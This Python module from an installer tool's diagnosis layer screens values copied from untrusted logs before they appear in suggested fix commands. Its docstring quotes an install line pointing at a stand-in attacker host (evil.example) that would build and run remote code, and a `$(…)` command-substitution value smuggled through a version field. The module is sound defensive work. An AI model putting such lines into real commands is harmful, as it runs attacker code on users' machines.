"""What a diagnosis may copy from a log into a line the user is told to run: the one judge of every value a fix or a
next line takes from a log (a failure's captured words, the GraphCast source its first line names).

Why: 31st hostile pass (part A) P3 — a log is untrusted input (a colleague's paste, a forum post, an issue), yet
`diagnose` put the GraphCast source named on its first line, any URL, into its fix as
`gc-wizard install RECIPE --graphcast-src git+https://evil.example/…`: pasted as printed, that builds and runs the
host's `setup.py`. A captured word went into command lines the same way (`jax=={newer_jaxlib}` took any `\\S+`, so
`$(…)` too). Now:
- a GraphCast source is given again only when it is a plain local path that exists and passes the swap rule
  `install` holds a given one to (`source_trust.swap_risk`), or it is the recipe's own source (then the line needs
  none); otherwise the line says `--graphcast-src DIR` and names what the log said, quoted, as not used;
- any other value taken from a log enters a command of a fix (a `…` span) only when it is inert in a shell:
  ASCII letters, digits and `._+-:/@=,%`, and short; else the fix reads as if the log had not said it.

A plain module of the verify layer: os, re and the swap rule, nothing run, nothing imported at start-up.
"""

from __future__ import annotations

import os
import re
from pathlib import Path

from wizard.security import cut, one_line
from wizard.source_trust import swap_risk

#: A value from a log that may stand in a command line as it is: nothing a shell expands, splits or runs.
_INERT = re.compile(r"[A-Za-z0-9._+\-:/@=,%]{1,200}")
#: A command in a fix's text: what the user copies and runs.
_CODE_SPAN = re.compile(r"`[^`]*`")
#: The placeholder an install line carries where the log's source is not given again.
PLACEHOLDER = "DIR"


def inert(value: str) -> bool:
    """Whether `value`, taken from a log, may stand in a command a fix prints (`_INERT`)."""
    return bool(_INERT.fullmatch(value))


def may_fill(template: str, name: str, value: str) -> bool:
    """Whether `value`, taken from a log, may fill `{name}` in a fix's `template`: inside a command (a `…` span) only
    when `inert`; in prose when it opens no command of its own (no backtick)."""
    in_code = any(f"{{{name}}}" in span for span in _CODE_SPAN.findall(template))
    return inert(value) if in_code else "`" not in value


def source_refusal(source: str) -> str | None:
    """None when `source` (the GraphCast source a log or an environment's record names) may be given again as
    `--graphcast-src`: an absolute local path, a folder or a file, here now, that passes the swap rule. Else why
    not, in words for "it is not given again here (…)"."""
    if not source or "://" in source or not os.path.isabs(source) or one_line(source) != source:
        return "it is not a local path"
    try:
        place = Path(source)
        if not (place.is_dir() or place.is_file()):
            return "there is no such folder or file here"
        found = swap_risk(place)
    except (OSError, ValueError):
        return "it cannot be read here"
    if found is not None:
        return f"another user could change it: {found[0]} {found[1]}"
    return None


def recipes_own(source: str, recipe) -> bool:
    """Whether `source` is the recipe's own GraphCast source (`name @ URL` or the URL alone): the plain install
    line fetches that already."""
    own = recipe.graphcast.source
    return source in (own, own.partition("@")[2].strip()) if own else False


def shown(source: str) -> str:
    """`source` for a sentence: one line, credentials masked, cut short, in double quotes."""
    return '"' + one_line(cut(source, 160)) + '"'
